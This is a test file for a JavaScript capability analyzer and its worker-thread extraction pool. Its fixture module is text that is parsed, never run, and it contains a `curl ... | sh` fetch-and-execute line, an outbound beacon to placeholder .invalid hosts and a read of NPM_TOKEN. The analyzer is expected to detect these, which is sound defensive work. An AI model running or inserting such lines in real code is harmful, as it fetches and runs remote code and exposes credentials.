import { afterAll, describe, expect, it } from 'vitest';
import { memoryNode } from '../../artifact/memory-node.js';
import { factsOfKind } from '../../core/facts.js';
import { defaultThreads } from '../../core/threads.js';
import { createJsCapabilitiesAnalyzer } from './analyzer.js';
import { DEFAULT_EXTRACT_LIMITS, extractJsCapabilities } from './extract.js';
import { JsExtractPool } from './extract-pool.js';

const encode = (text: string) => new TextEncoder().encode(text);

/** A module of some size that spawns a shell and calls a host named after `tag`. */
function moduleSource(tag: number): string {
  const filler = Array.from({ length: 200 }, (_, i) => `export const value${i} = ${i} * ${tag};`).join('\n');
  return [
    "const cp = require('node:child_process');",
    "const https = require('https');",
    `cp.execSync('curl https://host${tag}.invalid/x | sh');`,
    `https.get('https://host${tag}.invalid/beacon');`,
    'const key = process.env.NPM_TOKEN;',
    filler,
  ].join('\n');
}

const pool = new JsExtractPool(2);
afterAll(() => pool.close());

describe('the JavaScript extraction pool', () => {
  it('gives the same result as extracting on the calling thread', async () => {
    const source = moduleSource(1);
    const options = { filename: 'index.js', lang: 'jsx' as const, limits: DEFAULT_EXTRACT_LIMITS };
    const pooled = await pool.extract(encode(source), options);
    const inline = extractJsCapabilities(source, options);
    expect(pooled).toEqual(inline);
    expect(pooled.facts.map((fact) => fact.capability)).toEqual(
      expect.arrayContaining(['process.spawn', 'network.outbound']),
    );
  });

  it('keeps each answer with its own file when many run at once', async () => {
    const tags = Array.from({ length: 24 }, (_, i) => i + 10);
    const results = await Promise.all(
      tags.map((tag) =>
        pool.extract(encode(moduleSource(tag)), {
          filename: `f${tag}.js`,
          lang: 'jsx',
          limits: DEFAULT_EXTRACT_LIMITS,
        }),
      ),
    );
    results.forEach((result, i) => {
      const spawn = result.facts.find((fact) => fact.capability === 'process.spawn');
      expect(spawn?.detail).toContain(`host${tags[i]}.invalid`);
    });
  });

  it('fails the jobs in flight when closed, and starts afresh afterwards', async () => {
    const local = new JsExtractPool(1);
    const options = { filename: 'a.js', lang: 'jsx' as const, limits: DEFAULT_EXTRACT_LIMITS };
    const failed = expect(local.extract(encode(moduleSource(2)), options)).rejects.toMatchObject({
      code: 'E_INTERNAL',
    });
    await local.close();
    await failed;
    const again = await local.extract(encode(moduleSource(3)), options);
    expect(again.file.parsed).toBe('full');
    await local.close();
  });

  it('survives files at the edge of the nesting guard on a worker thread (parsed, or read by the fallback)', async () => {
    // Just inside MAX_SAFE_NESTING / MAX_SAFE_RUN: the parser's native recursion and raw transfer's
    // recursive deserialisers both see the deepest trees the guard lets through.
    const edge = [
      `x = ${'('.repeat(999)}1${')'.repeat(999)}`,
      `x = ${'['.repeat(999)}${']'.repeat(999)}`,
      `x = ${'{a:'.repeat(999)}1${'}'.repeat(999)}`,
      `x = ${'a.b('.repeat(999)}${')'.repeat(999)}`,
      `x = ${'`${'.repeat(999)}1${'}`'.repeat(999)}`,
      `x = ${'!'.repeat(9990)}a`,
      `x = ${'new '.repeat(4990)}a`,
      `x = ${'a=>'.repeat(3300)}a`,
      `x = ${'typeof '.repeat(4990)}a`,
      `x = ${'a.'.repeat(4990)}a`,
    ];
    for (const deep of edge) {
      const source = `eval(x);\n${deep}`;
      const result = await pool.extract(encode(source), {
        filename: 'edge.js',
        lang: 'jsx',
        limits: DEFAULT_EXTRACT_LIMITS,
      });
      expect(['full', 'fallback']).toContain(result.file.parsed);
      // The eval on the first line is found either way.
      expect(result.facts.map((fact) => fact.capability)).toContain('code.eval');
    }
  });
});

describe('the JavaScript analyzer with a pool', () => {
  it('reports the same facts for a large file as without one', async () => {
    const text = moduleSource(4);
    expect(text.length).toBeGreaterThan(4096);
    const node = () => memoryNode(encode(text), { name: 'big.js' });
    const pooled = await createJsCapabilitiesAnalyzer({ pool }).analyze(node(), { limits: {} as never });
    const inline = await createJsCapabilitiesAnalyzer({ pool: null }).analyze(node(), {
      limits: {} as never,
    });
    expect(pooled).toEqual(inline);
    expect(factsOfKind(pooled.facts, 'js.capability').length).toBeGreaterThan(2);
  });
});

describe('COUNTERSIGN_THREADS', () => {
  it('sets the thread count; 0 means the calling thread; nonsense is a usage error', () => {
    expect(defaultThreads({ COUNTERSIGN_THREADS: '3' })).toBe(3);
    expect(defaultThreads({ COUNTERSIGN_THREADS: '0' })).toBe(0);
    expect(defaultThreads({})).toBeGreaterThanOrEqual(1);
    expect(() => defaultThreads({ COUNTERSIGN_THREADS: 'many' })).toThrow(/whole number/);
    expect(() => defaultThreads({ COUNTERSIGN_THREADS: '-1' })).toThrow(/whole number/);
  });
});
